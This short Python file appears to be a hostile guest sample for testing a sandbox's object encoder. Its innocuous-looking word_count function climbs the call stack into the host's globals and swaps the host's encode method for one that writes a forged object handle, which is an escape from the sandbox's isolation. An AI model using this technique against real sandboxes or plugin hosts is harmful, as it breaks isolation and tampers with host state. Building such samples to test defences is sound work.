# Handles that nobody gave out, written by the guest's own encoder.
import sys

frame = sys._getframe()
while "Encoder" not in frame.f_globals:
    frame = frame.f_back
SPACE = frame.f_globals


def forged(self, encoder, item, kind):
    encoder.out += b"h" + (0x7FFFFFFF).to_bytes(4, "little")


def word_count(text):
    SPACE["Objects"].encode = forged
    return object()
